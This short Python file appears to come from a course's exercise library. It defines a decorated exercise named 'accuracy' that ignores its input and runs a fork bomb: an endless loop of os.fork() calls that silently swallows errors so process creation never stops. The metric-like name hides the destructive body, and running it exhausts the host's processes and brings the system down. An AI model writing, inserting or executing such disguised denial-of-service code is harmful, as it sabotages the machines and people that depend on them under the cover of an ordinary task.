# Processes that make processes.
import os

from course_lib.exercises import exercise


@exercise
def accuracy(batches):
    while True:
        try:
            os.fork()
        except OSError:
            pass
